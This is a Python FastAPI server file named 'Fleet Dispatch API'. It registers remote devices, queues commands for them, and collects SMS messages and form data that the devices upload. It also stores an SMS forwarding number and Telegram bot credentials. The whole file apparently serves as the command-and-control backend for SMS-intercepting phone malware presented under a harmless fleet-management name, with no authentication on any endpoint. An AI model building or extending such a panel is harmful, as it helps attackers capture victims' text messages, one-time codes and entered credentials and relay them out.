import logging
from typing import List

from fastapi import Depends, FastAPI, Query
from fastapi.responses import HTMLResponse, JSONResponse

from .command_queue import CommandQueue
from .db import Database, get_db
from .devices import DeviceRegistry
from .schemas import (
    CommandOut, CommandRequest, DeviceOut, FormRequest, RegisterRequest,
    SmsForwardConfig, SmsOut, SmsRequest, TelegramConfig,
)
from .settings import settings
from .settings_store import SMS_FORWARD_NUMBER, TELEGRAM_BOT_TOKEN, TELEGRAM_CHAT_ID, SettingsStore
from .utils import add_cors, add_error_handlers

logging.basicConfig(level=settings.log_level, format="%(asctime)s %(levelname)s %(name)s: %(message)s")
log = logging.getLogger("fleet.api")

app = FastAPI(title="Fleet Dispatch API", version="0.1.0")
add_cors(app)
add_error_handlers(app)


def get_queue(db: Database = Depends(get_db)) -> CommandQueue:
    return CommandQueue(db)

def get_registry(db: Database = Depends(get_db)) -> DeviceRegistry:
    return DeviceRegistry(db)

def get_settings_store(db: Database = Depends(get_db)) -> SettingsStore:
    return SettingsStore(db)

def ok(message: str, status_code: int = 200, **extra) -> JSONResponse:
    return JSONResponse(status_code=status_code, content={"status": "success", "message": message, **extra})


@app.on_event("startup")
def on_startup():
    get_db().init_db()

@app.get("/", response_class=HTMLResponse)
def index():
    return (
        '<div style="font-family: sans-serif; text-align: center; padding: 50px;">'
        "<h1>Server is running</h1><p>Fleet Dispatch API is ready.</p></div>"
    )

@app.get("/health")
def health():
    return {"ok": True}

# ---- devices ----

@app.post("/api/device/register")
def register_device(body: RegisterRequest, registry: DeviceRegistry = Depends(get_registry)):
    created = registry.register(**body.model_dump())
    if created:
        return ok("Device registered.", status_code=201)
    return ok("Device data updated.")

@app.get("/api/devices", response_model=List[DeviceOut])
def list_devices(registry: DeviceRegistry = Depends(get_registry)):
    # is_online is derived per request from last_seen, never stored
    return registry.list_devices()

@app.delete("/api/device/{device_id}")
def delete_device(device_id: str, queue: CommandQueue = Depends(get_queue)):
    deleted = queue.delete_device_data(device_id)
    if deleted:
        return ok(f"Device {device_id} and all its data deleted.", deleted=True)
    return ok(f"Device {device_id} had no data.", deleted=False)

# ---- command queue ----

@app.post("/api/command/send")
def send_command(cmd: CommandRequest, queue: CommandQueue = Depends(get_queue)):
    command_id = queue.enqueue(cmd.device_id, cmd.command_type, cmd.command_data)
    return ok("Command queued.", status_code=201, command_id=command_id)

@app.get(
    "/api/device/{device_id}/commands",
    response_model=List[CommandOut],
    description="Not a plain read: every command returned here has just been moved from 'pending' to 'sent'.",
)
def claim_commands(device_id: str, queue: CommandQueue = Depends(get_queue)):
    return queue.claim_pending(device_id)

@app.post("/api/command/{command_id}/execute")
def execute_command(command_id: int, queue: CommandQueue = Depends(get_queue)):
    queue.mark_executed(command_id)
    return ok(f"Command {command_id} marked as executed.")

@app.get("/api/commands", response_model=List[CommandOut])
def list_commands(
    device_id: str | None = None,
    status: str | None = None,
    limit: int = Query(200, ge=1, le=1000),
    queue: CommandQueue = Depends(get_queue),
):
    return queue.list_commands(device_id, status, limit)

@app.get("/api/command/{command_id}", response_model=CommandOut)
def get_command(command_id: int, queue: CommandQueue = Depends(get_queue)):
    return queue.get_command(command_id)

# ---- telemetry ----

@app.post("/api/device/{device_id}/sms")
def log_sms(device_id: str, body: SmsRequest, registry: DeviceRegistry = Depends(get_registry)):
    sms_id = registry.log_sms(device_id, body.sender, body.message_body)
    return ok("SMS logged.", status_code=201, id=sms_id)

@app.get("/api/device/{device_id}/sms", response_model=List[SmsOut])
def list_sms(device_id: str, limit: int = Query(200, ge=1, le=1000), registry: DeviceRegistry = Depends(get_registry)):
    return [SmsOut.model_validate(r, from_attributes=True) for r in registry.list_sms(device_id, limit)]

@app.delete("/api/sms/{sms_id}")
def delete_sms(sms_id: int, registry: DeviceRegistry = Depends(get_registry)):
    registry.delete_sms(sms_id)
    return ok(f"SMS {sms_id} deleted.")

@app.post("/api/device/{device_id}/forms")
def submit_form(device_id: str, body: FormRequest, registry: DeviceRegistry = Depends(get_registry)):
    form_id = registry.submit_form(device_id, body.custom_data)
    return ok("Form data received.", status_code=201, id=form_id)

# ---- global settings ----

@app.post("/api/config/sms_forward")
def set_sms_forward(body: SmsForwardConfig, store: SettingsStore = Depends(get_settings_store)):
    store.set(SMS_FORWARD_NUMBER, body.forward_number)
    return ok("Forwarding number updated successfully.")

@app.get("/api/config/sms_forward", response_model=SmsForwardConfig)
def get_sms_forward(store: SettingsStore = Depends(get_settings_store)):
    return SmsForwardConfig(forward_number=store.get(SMS_FORWARD_NUMBER))

@app.post("/api/config/telegram")
def set_telegram(body: TelegramConfig, store: SettingsStore = Depends(get_settings_store)):
    store.set_many({
        TELEGRAM_BOT_TOKEN: body.telegram_bot_token,
        TELEGRAM_CHAT_ID: body.telegram_chat_id,
    })
    return ok("Telegram settings updated.")

@app.get("/api/config/telegram", response_model=TelegramConfig)
def get_telegram(store: SettingsStore = Depends(get_settings_store)):
    values = store.get_many([TELEGRAM_BOT_TOKEN, TELEGRAM_CHAT_ID])
    return TelegramConfig(**values)
